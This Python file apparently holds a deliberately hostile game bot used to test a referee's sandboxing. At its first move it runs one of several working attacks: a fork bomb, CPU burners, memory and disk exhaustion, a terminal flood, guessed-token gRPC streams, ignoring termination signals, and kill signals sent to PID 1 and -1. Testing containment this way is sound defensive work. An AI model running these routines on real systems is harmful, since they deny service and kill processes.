"""A bot that attacks while it plays, always the first option. The game must come out as if it had only played.

hostile_bot.py ATTACK
"""

from __future__ import annotations

import atexit
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from pathlib import Path

import grpc

import serai
from serai.v1 import referee_pb2 as pb
from serai.v1.referee_pb2_grpc import RefereeServiceStub

BURNERS, STREAMS, FLOOD = 8, 30, 1 << 26


def none() -> None:
    """Only plays."""


def burn_cpu() -> None:
    """Burns processor time in eight processes, in sessions of their own, for as long as it lives."""
    bot = os.getpid()
    for _ in range(BURNERS):
        if not os.fork():
            os.setsid()
            while os.getppid() == bot:
                pass
            os._exit(0)


def flood_output() -> None:
    """Prints without end."""

    def flood() -> None:
        for _ in range(FLOOD >> 16):
            os.write(2, b"\x1b[2J" * (1 << 14))

    threading.Thread(target=flood, daemon=True).start()


def flood_door() -> None:
    """Opens streams without a token, and with guessed ones (D14)."""
    address = os.environ["SERAI_REFEREE"]

    def one(number: int) -> None:
        hello = pb.PlayRequest(hello=pb.Hello(protocol=1, token=f"guess {number}", games=["yspahan"]))
        with suppress(grpc.RpcError, StopIteration), grpc.insecure_channel(address) as channel:
            next(RefereeServiceStub(channel).Play(iter([hello] if number % 2 else [])))

    for number in range(STREAMS):
        threading.Thread(target=one, args=(number,), daemon=True).start()


def fork_bomb() -> None:
    """Starts processes until it cannot. They are gone after a second, so that it can play on."""
    bomb = "for n in $(seq 300); do sleep 1 & done; wait"
    subprocess.run(["sh", "-c", bomb], check=False, stdin=subprocess.DEVNULL)


def fill_disk() -> None:
    """Fills all it can write to."""
    for folder in ("/tmp", "/dev/shm"):
        with suppress(OSError), Path(folder, "filler").open("wb") as file:
            while True:
                file.write(bytes(1 << 20))


def time_bomb() -> None:
    """Does not end when it is told to."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    atexit.register(time.sleep, 600)


def kill_all() -> None:
    """Kills whatever it can, its own worker first."""
    for number in (os.getppid(), 1, -1):
        with suppress(OSError):
            os.kill(number, signal.SIGKILL)


def memory_bomb() -> None:
    """Takes memory until it is ended."""
    taken: list[bytearray] = []
    while True:
        taken.append(bytearray(1 << 20))


ATTACKS: dict[str, Callable[[], None]] = {
    attack.__name__: attack
    for attack in (none, burn_cpu, flood_output, flood_door, fork_bomb, fill_disk, time_bomb, kill_all, memory_bomb)
}


class Hostile(serai.Bot):
    """Attacks at its first question."""

    games = serai.EVERY_GAME
    attacked = False

    def choose(self, table: serai.Table, view: object, options: Sequence[object]) -> int:
        if not self.attacked:
            self.attacked = True
            ATTACKS[sys.argv[1]]()
        return 0


if __name__ == "__main__":
    Hostile().run()
